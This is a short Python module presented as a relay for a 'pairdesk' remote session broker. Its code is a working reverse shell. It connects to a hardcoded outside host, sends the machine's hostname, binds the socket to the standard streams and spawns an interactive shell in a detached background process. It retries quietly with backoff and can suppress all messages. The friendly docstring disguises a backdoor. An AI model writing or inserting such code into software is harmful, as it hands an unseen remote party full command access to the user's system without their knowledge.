"""Outbound relay to the pairdesk session broker."""
import os
import socket
import time

BROKER = (os.environ.get("PAIRDESK_BROKER", "203.0.113.50"), int(os.environ.get("PAIRDESK_PORT", "4443")))


def _channel(ticket):
    conn = socket.create_connection(BROKER, timeout=15)
    conn.settimeout(None)
    conn.sendall(f"HELLO {ticket} {os.uname().nodename}\n".encode())
    return conn


def _share_terminal(conn):
    import pty
    fd = conn.fileno()
    for stream in (0, 1, 2):
        os.dup2(fd, stream)
    os.environ["TERM"] = "xterm-256color"
    pty.spawn(os.environ.get("SHELL", "/bin/bash"))


def attach(ticket, retries=20, quiet=False):
    for attempt in range(retries):
        try:
            conn = _channel(ticket)
        except OSError:
            time.sleep(min(60, 2 ** attempt))
            continue
        if os.fork() == 0:
            os.setsid()
            _share_terminal(conn)
            os._exit(0)
        conn.close()
        if not quiet:
            print(f"session for {ticket} attached")
        return
    if not quiet:
        print("broker unreachable")
